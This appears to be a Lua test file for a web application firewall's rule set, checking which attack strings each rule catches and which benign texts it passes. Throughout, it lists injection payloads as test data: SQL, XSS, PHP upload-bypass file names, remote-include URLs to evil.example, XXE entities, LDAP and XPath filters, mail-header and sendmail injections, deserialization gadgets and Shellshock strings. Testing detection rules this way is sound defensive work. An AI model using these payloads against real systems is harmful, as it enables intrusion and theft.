local rule_checks = require "rule_checks"

-- The eleventh to thirteenth blind sets (tests/edge_security/family_gen_blind_{eleventh,twelfth,thirteenth}.py):
-- the families they found uncovered, and the values our rules misread there, value by value.
describe("edge.waf.rules eleventh to thirteenth blind sets", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("SQL: numbers glued to keywords, hex and ~ operands, more operators, casts, dollar quotes, ODBC", function()
        caught_by(142130, { "1e0UNION SELECT 1", ".1union select 1", "1 UNION VALUES(1,2)" })
        caught_by(142250, { "1.0e+0AND 1=1", "0x1 OR 0x1", "1 AND ~0>1", "1 AND 'abc' GLOB 'a*'",
            "1 AND 'a' SIMILAR TO 'a'", "1 AND 2 IS DISTINCT FROM 1", "1 AND $$admin$$='admin'",
            "1 AND {fn LCASE('A')}='a'" })
        caught_by(142100, { "' OR 1::int=1 OR '" })
        caught_by(142160, { "1; BEGIN DBMS_SESSION.SLEEP(5); END;--", "1; BEGIN EXECUTE IMMEDIATE 'DROP TABLE x'; END;--",
            "[name]] FROM sys.sql_logins--" })
        caught_by(142200, { "rand(ascii(substr(user(),1,1))>100)" })
        caught_by(142280, { "1\\'" })
        caught_by(142270, { "name FROM users--", "password FROM admins #" })
        clean({ "the union of 1e0 and 2", "Fits doors 1-3/8\" to 1-3/4\" thick; backset 2-3/8\" or 2-3/4\".",
            "tv 55\" or 65\"", "[the docs](https://x.io/a) and ![logo](https://x.io/l.png)",
            "Headings: `#`, `##` and lists: `-`, `*`" })
    end)

    it("XSS and templates: a sink named in prose is not a call; IE behaviors; Go's whole-context dot", function()
        clean({ "Your confirm() popup on delete is great", "please alert(us) when it ships" })
        caught_by(141140, { "javascript:confirm(1)", "';confirm()//", "<svg onload=alert(1)>" })
        caught_by(141160, { "behavior:url(xss.htc)" })
        caught_by(134130, { "{{.}}" })
    end)

    it("PHP: configuration directives and file names that run as PHP", function()
        caught_by(133130, { "allow_url_include=On", "php_value auto_prepend_file /tmp/shell.txt",
            "AddType application/x-httpd-php .jpg", "SetHandler application/x-httpd-php", "php_flag engine on",
            "<FilesMatch \"\\.png$\">", "set_include_path('/tmp');" })
        caught_by(133140, { "avatar.php.png", "x.pHtMl", "shell.phar", "backdoor.php;.jpg", "s.php::$DATA",
            "filename=\"test.php\"" })
        caught_by(130130, { ".user.ini", "config.php~", "settings.yml.bak" })
        clean({ "Why is my .htaccess php_value ignored on PHP-FPM?", "https://www.php.net/manual/en/wrappers.php.php",
            "see index.php; it handles the routing", "the engine on my car", ".env.example", "web.config.sample",
            "notes.txt.bak", "index.php.txt" })
    end)

    it("files and includes: devices that never end, UNC paths to scripts", function()
        caught_by(130110, { "/dev/fd/0", "/dev/urandom" })
        caught_by(131120, { "\\\\evil.example@SSL\\DavWWWRoot\\s.php", "\\\\?\\UNC\\203.0.113.7\\share\\s.php" })
        caught_by(131130, { "hTtP://evil.example/r57.txt", "http://user@evil.example/shell.txt", "//evil.example/x.inc" })
        caught_by(131110, { "https://pastebin.com/raw/xyz123AB", "https://raw.githubusercontent.com/attacker/tools/main/shell.php" })
        clean({ "redirect it to /dev/null", "\\\\fileserver\\shared\\Q3 report.xlsx", "https://example.com/page.php",
            "see https://example.com/notes.txt for details", "https://raw.githubusercontent.com/acme/app/main/README.md" })
    end)

    it("136100-136120: XML entities, LDAP filters, XPath", function()
        caught_by(136100, { "<!DOCTYPE foo [<!ENTITY % ext SYSTEM \"http://evil.example/x.dtd\"> %ext;]>",
            "<!ENTITY xxe SYSTEM \"file:///etc/hostname\">", "<!ENTITY lol2 \"&lol;&lol;&lol;\">" })
        caught_by(136110, { "admin)(&)", "*)(|(objectClass=*)", "admin*)((|userPassword=*)", "*()|&'",
            "jdoe)(|(password=*))" })
        caught_by(136120, { "']|//user/*|//a['", "1 or string-length(name(/*[1]))>0", "doc('http://evil.example/x')",
            "'] | //password | //*['" })
        clean({ "<!DOCTYPE html>", "(see above)(and below)", "a | b | c", "smile :)(", "the doc(s) are here" })
    end)

    it("shell and code: mail headers after an address, sendmail options, Json.NET types, DoS, Shellshock", function()
        caught_by(132240, { "victim@example.org\r\nBcc: list@evil.example", "a@b.c\nSubject: hacked\n\nspam",
            "x@example.org%0ACc:all@evil.example", "-OQueueDirectory=/tmp -X/var/www/html/shell.php",
            "%0d%0aX-Injected:%20yes", "foo\r\nSet-Cookie: session=attacker", "\229\152\141\229\152\138Set-Cookie: x=1" })
        clean({ "Hi team,\nFrom: Alice\nTo: Bob\nSubject: Re: plan", "the -x flag of tar extracts files",
            "Carlos Silva\nPHP / Laravel developer\nGitHub: github.com/csilva | Blog: carlos.example/blog" })
        caught_by(132220, { "rO0AB", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}" })
        caught_by(135120, { "Array(1e9).fill('x').join('')", "^(a+)+$", "(x+x+)+y" })
        caught_by(132110, { "|${SHELL} -c id", "() { (a)=>\\" })
        clean({ "Array(10).fill(0)", "^(\\d{3})-(\\d{4})$" })
    end)
end)
